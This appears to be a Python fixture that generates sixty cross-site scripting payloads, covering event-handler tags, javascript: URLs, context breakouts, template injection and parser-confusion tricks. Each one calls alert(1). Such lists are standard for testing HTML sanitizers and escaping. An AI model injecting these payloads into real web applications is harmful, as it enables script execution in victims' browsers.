"""Sixty texts that would run as a script wherever a text is taken for markup, an address or a style."""

CALL = "alert(1)"
TAGS = (
    "img/src=x/onerror", "svg onload", "body onload", "details open ontoggle", "video src=x onerror",
    "audio src=x onerror", "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus",
    "marquee onstart", "iframe onload", "object data=x onerror", "embed src=x onerror", "p onmouseover", "a onclick",
    "div style=animation-name:pass onanimationstart", "button onclick", "form onsubmit", "style onload",
    "link rel=stylesheet href=x onerror",
)  # fmt: skip
ADDRESSES = ("a href", "iframe src", "form action", "object data", "embed src", "base href", "area href", "math href",
             "svg><a xlink:href", "link rel=import href")  # fmt: skip
CLOSERS = ("", '">', "'>", "</textarea>", "</title>", "</script>", "</style>", "-->", "]]>", "</pre>")

PAYLOADS = (
    *(f"<{tag}={CALL}>" for tag in TAGS),
    *(f"<{place}=javascript:{CALL}>x" for place in ADDRESSES),
    *(f"{closer}<script>{CALL}</script>" for closer in CLOSERS),
    *(f"{closer}<img src=x onerror={CALL}>" for closer in CLOSERS),
    f'" onmouseover="{CALL}" x="',
    f"' autofocus onfocus='{CALL}",
    f"javascript:{CALL}",
    f"${{{CALL}}}",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"<svg><script>{CALL}</script></svg>",
    f"<math><mtext><style><img src=x onerror={CALL}>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"\u2028<template><script>{CALL}</script></template>",
    f"<scr\x00ipt>{CALL}</scr\x00ipt>",
)
